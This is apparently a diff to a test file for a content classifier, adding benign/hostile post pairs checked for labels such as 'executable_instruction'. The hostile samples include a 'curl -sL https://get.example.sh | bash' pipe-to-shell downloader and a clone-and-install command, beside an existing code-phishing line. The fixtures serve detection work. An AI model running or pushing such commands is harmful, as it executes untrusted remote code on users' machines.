@@ -692,8 +692,8 @@ test("hostile posts that borrow the words of round thirteen's frames keep their 
 // Round fifteen's precision by families (docs/mirror.md, "Round fifteen"): each benign post below,
 // written for this file, was flagged on the main the round started from (8bb7873) and is not now; its
 // hostile twin on the same topic was flagged then and keeps its label. A quoted command line keeps
-// `executable_instruction` (the command shape, not this round's subject), so the benign posts are
-// held to no other content label. [family, benign, hostile, label].
+// `executable_instruction` (the command shape, not the subject of those families), so those benign
+// posts are held to no other content label. [family, benign, hostile, label].
 const PRECISION_15: [string, string, string, MirrorFlag][] = [
   [
     'typed or transcribed told in the past',
@@ -839,12 +839,24 @@ const PRECISION_15: [string, string, string, MirrorFlag][] = [
     'Read me the six digit code from your texts.',
     'credential_request',
   ],
+  [
+    'a bare downloader piped to a shell names the idiom',
+    'Our installer docs no longer suggest curl | bash for anything.',
+    'Install it now: curl -sL https://get.example.sh | bash',
+    'executable_instruction',
+  ],
+  [
+    'a quoted command that is the subject of what it does',
+    '`git status -s` lists what changed since the last commit.',
+    'Run `git clone https://example.com/tool && make install` now.',
+    'executable_instruction',
+  ],
 ];
 
 for (const [family, benign, hostile, label] of PRECISION_15) {
   test(`round fifteen, ${family}: the benign post gets no content label, its hostile twin keeps ${label}`, (t) => {
     t.deepEqual(
-      flagsOf(benign).filter((f) => CONTENT.includes(f) && f !== 'executable_instruction'),
+      flagsOf(benign).filter((f) => CONTENT.includes(f) && (f !== 'executable_instruction' || label === 'executable_instruction')),
       [],
       benign,
     );
